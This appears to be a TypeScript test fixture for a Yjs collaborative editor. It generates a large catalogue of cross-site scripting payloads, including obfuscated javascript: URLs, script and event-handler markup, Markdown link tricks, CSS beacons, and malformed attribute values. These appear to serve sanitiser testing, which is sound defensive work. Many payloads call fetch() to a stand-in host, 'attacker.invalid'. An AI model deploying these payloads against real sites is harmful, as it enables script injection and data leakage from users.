import * as Y from "yjs";

/** Something hostile that an editor of his own making writes into a fragment. */
export type HostilePayload = {
  readonly name: string;
  readonly write: (fragment: Y.XmlFragment) => void;
};

/** A host that no answer may lead a browser to by itself. */
const FOREIGN_HOST = "attacker.invalid";

/** What a payload does where it runs: a dialog, and a request to a foreign host. */
const RUN = `alert(1);fetch('https://${FOREIGN_HOST}/ran')`;

/** Addresses that are no web page and no mail; some are only read so by a lenient reader. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\r\nscript:${RUN}`,
  `javascript\u0000:${RUN}`,
  `\u200bjavascript:${RUN}`,
  `\ufeffjavascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `%6Aavascript:${RUN}`,
  `javascript://example.com/%0a${RUN}`,
  `javascript:void(0);//https://example.com`,
  `vbscript:msgbox(1)`,
  `VBSCRIPT:Execute("x")`,
  `livescript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `data:application/xhtml+xml,<x/>`,
  `blob:https://example.com/4f6c1de2-0c3a-4b1e-9c0e-2f6a1f0f7a11`,
  `filesystem:https://example.com/temporary/x`,
  `file:///etc/passwd`,
  `ftp://example.com/`,
  `ws://example.com/`,
  `view-source:https://example.com/`,
  `about:blank`,
  `jar:https://example.com!/x`,
  `feed:javascript:${RUN}`,
  `mention:user/1`,
  `tel:+491234`,
  `//${FOREIGN_HOST}/x`,
  `\\\\${FOREIGN_HOST}\\x`,
  `/\\${FOREIGN_HOST}`,
  `/api/v1/sessions/current`,
  `?x=1`,
  `#x`,
  `../x`,
  ``,
  `https:`,
  `https://`,
  `https://example.com/"onmouseover="${RUN}`,
  `https://example.com/'onmouseover='${RUN}`,
  `https://example.com/><script>${RUN}</script>`,
  `https://example.com/ onclick=${RUN}`,
  `https://example.com/\nonclick=${RUN}`,
  `https://example.com/)\n\n<script>${RUN}</script>`,
  `http://[x`,
] as const;

/** Text that is markup to whoever does not escape it, in HTML or in Markdown. */
const TEXTS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<details open ontoggle=${RUN}>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<style>@import 'https://${FOREIGN_HOST}/x.css';</style>`,
  `<link rel=stylesheet href=https://${FOREIGN_HOST}/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://${FOREIGN_HOST}/">`,
  `<base href=https://${FOREIGN_HOST}/>`,
  `<form action=https://${FOREIGN_HOST}/><button>x`,
  `</p></td></table></code></pre><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `\\<script>${RUN}</script>`,
  `\\\\<script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `<\u0000script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `[x](javascript:${RUN})`,
  `[x](<javascript:${RUN}>)`,
  `[x](JAVASCRIPT&colon;${RUN} "t")`,
  `![x](https://${FOREIGN_HOST}/x.png)`,
  `![x](data:image/svg+xml,<svg/onload=${RUN}>)`,
  `<javascript:${RUN}>`,
  `[r]\n\n[r]: javascript:${RUN}`,
  `[x]: https://${FOREIGN_HOST}/ "t"`,
  `x\n\n<script>${RUN}</script>\n\ny`,
  `x\r<script>${RUN}</script>`,
  `x\u2028<script>${RUN}</script>`,
  `\`\`\`\n<script>${RUN}</script>\n\`\`\``,
  `~~~\n<script>${RUN}</script>`,
  `    <script>${RUN}</script>`,
  `| a |\n| - |\n| <script>${RUN}</script> |`,
  `x\n===\n<script>${RUN}</script>`,
  `\`<script>${RUN}</script>`,
  `\`\` \` <script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `\ud800<script>${RUN}</script>`,
] as const;

/** Elements that no document has, and that a browser would do something with. */
const ELEMENTS =
  "script iframe frame object embed applet svg math style link meta base form input button video audio source template noscript title textarea foreignObject animate div x-custom __proto__ constructor toString".split(
    " ",
  );

/** Attributes that no node has. */
const ATTRIBUTES = {
  onclick: RUN,
  onerror: RUN,
  onload: RUN,
  onfocus: RUN,
  style: `background:url(https://${FOREIGN_HOST}/x)`,
  class: "person caret",
  srcset: `https://${FOREIGN_HOST}/x 1x`,
  srcdoc: `<script>${RUN}</script>`,
  href: `javascript:${RUN}`,
  "xlink:href": `javascript:${RUN}`,
  formaction: `javascript:${RUN}`,
  action: `javascript:${RUN}`,
  background: `https://${FOREIGN_HOST}/x`,
  ping: `https://${FOREIGN_HOST}/x`,
  contenteditable: "true",
  tabindex: "1",
  autofocus: "",
  [`x"><script>${RUN}</script>`]: "x",
  "data-id": `"><script>${RUN}</script>`,
  ychange: { type: "added", user: `"><script>${RUN}</script>` },
} as const;

/** Values of attributes that nodes do have, of another kind than they should be. */
const VALUES: readonly (readonly [node: string, attribute: string, value: unknown])[] = [
  ["paragraph", "id", `"><script>${RUN}</script>`],
  ["paragraph", "id", { toString: "x" }],
  ["heading", "level", `1><script>${RUN}</script>`],
  ["heading", "level", 7],
  ["heading", "level", -1e9],
  ["orderedList", "start", `1" onclick="${RUN}`],
  ["orderedList", "start", 2 ** 53],
  ["orderedList", "type", `a" style="x`],
  ["taskItem", "checked", `"><script>${RUN}</script>`],
  ["tableCell", "colspan", 1e9],
  ["tableCell", "rowspan", `2" onclick="${RUN}`],
  ["tableCell", "align", `left;background:url(https://${FOREIGN_HOST}/x)`],
  ["tableCell", "colwidth", `1px;background:url(https://${FOREIGN_HOST}/x)`],
  ["tableCell", "colwidth", [`1;background:url(https://${FOREIGN_HOST}/x)`]],
  ["tableCell", "colwidth", [-5, 1e9, null]],
  ["codeBlock", "language", `js" onclick="${RUN}`],
  ["codeBlock", "language", `js\n\`\`\`\n<script>${RUN}</script>`],
  ["codeBlock", "language", "x".repeat(10_000)],
  ["codeBlock", "language", { toString: "x" }],
  ["image", "alt", `"><script>${RUN}</script>`],
  ["image", "alt", `](javascript:${RUN})![`],
  ["image", "title", `" onerror="${RUN}`],
  ["image", "title", `")\n\n<script>${RUN}</script>`],
  ["image", "width", `1" onerror="${RUN}`],
  ["mention", "label", `<script>${RUN}</script>`],
  ["mention", "label", `](javascript:${RUN})`],
  ["mention", "label", { toString: "x" }],
  ["mention", "targetType", `user" onclick="${RUN}`],
  ["mention", "targetType", "__proto__"],
  ["mention", "targetId", `../../../x" onclick="${RUN}`],
  ["mention", "targetId", `x)<script>${RUN}</script>`],
  ["mention", "mentionSuggestionChar", `<script>${RUN}</script>`],
];

const element = (
  name: string,
  attributes: Readonly<Record<string, unknown>>,
  ...children: readonly (Y.XmlElement | Y.XmlText)[]
): Y.XmlElement => {
  const made = new Y.XmlElement(name);
  // Yjs takes any value; the type says text.
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value as string);
  made.insert(0, [...children]);
  return made;
};

const text = (words: string, formats: Readonly<Record<string, unknown>> = {}): Y.XmlText => {
  const made = new Y.XmlText();
  made.insert(0, words, { ...formats });
  return made;
};

const inParagraph = (...children: readonly (Y.XmlElement | Y.XmlText)[]): Y.XmlElement =>
  element("paragraph", {}, ...children);

const writing = (make: () => Y.XmlElement | Y.XmlText) => (fragment: Y.XmlFragment) =>
  fragment.push([make()]);

const IMAGE = { src: "https://example.com/x.png" };
const MENTION = { targetType: "user", targetId: "u1", label: "Ada" };

/** A node with this attribute, in whatever must be around it. */
function nodeWith(name: string, attribute: string, value: unknown): Y.XmlElement {
  const words = (): Y.XmlElement => inParagraph(text("words"));
  const own = { [attribute]: value };
  switch (name) {
    case "image":
      return element(name, { ...IMAGE, ...own });
    case "mention":
      return inParagraph(text("hi "), element(name, { ...MENTION, ...own }));
    case "orderedList":
      return element(name, own, element("listItem", {}, words()));
    case "taskItem":
      return element("taskList", {}, element(name, own, words()));
    case "tableCell":
      return element("table", {}, element("tableRow", {}, element(name, own, words())));
    default:
      return element(name, own, text("words"));
  }
}

/** Where text can stand. */
const PLACES: readonly ((words: string) => Y.XmlElement | Y.XmlText)[] = [
  (words) => inParagraph(text(words)),
  (words) => element("heading", { level: 2 }, text(words)),
  (words) => element("codeBlock", { language: "html" }, text(words)),
  (words) => inParagraph(text(words, { code: {} })),
  (words) => inParagraph(text(words, { link: { href: "https://example.com/" }, bold: {} })),
  (words) => element("blockquote", {}, inParagraph(text(words))),
  (words) => nodeWith("mention", "label", words),
  (words) => nodeWith("image", "alt", words),
  (words) =>
    element(
      "table",
      {},
      element("tableRow", {}, element("tableHeader", {}, inParagraph(text(words)))),
    ),
  (words) => text(words),
];

const named = (kind: string, what: unknown): string => `${kind} ${JSON.stringify(what)}`;

/** All of them. Each writes one block of its own, which no other payload touches. */
export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  ...ADDRESSES.flatMap((href) => [
    {
      name: named("link", href),
      write: writing(() => inParagraph(text("link", { link: { href } }))),
    },
    {
      name: named("image", href),
      write: writing(() => element("image", { src: href, alt: "alt" })),
    },
  ]),
  ...TEXTS.flatMap((words) =>
    PLACES.map((place, index) => ({
      name: named(`text in place ${index}`, words),
      write: writing(() => place(words)),
    })),
  ),
  ...ELEMENTS.flatMap((tag) => [
    {
      name: `element ${tag}`,
      write: writing(() => element(tag, { src: `javascript:${RUN}`, ...ATTRIBUTES }, text(RUN))),
    },
    {
      name: `inside a paragraph ${tag}`,
      write: writing(() => inParagraph(text("a"), element(tag, ATTRIBUTES, text(RUN)))),
    },
    {
      name: `mark ${tag}`,
      write: writing(() => inParagraph(text("marked", { [tag]: { ...ATTRIBUTES } }))),
    },
  ]),
  ...Object.entries(ATTRIBUTES).flatMap(([name, value]) =>
    ["paragraph", "image", "mention", "codeBlock"].map((node) => ({
      name: `attribute ${name} of ${node}`,
      write: writing(() => nodeWith(node, name, value)),
    })),
  ),
  ...VALUES.map(([node, attribute, value]) => ({
    name: named(`${node}.${attribute}`, value),
    write: writing(() => nodeWith(node, attribute, value)),
  })),
];
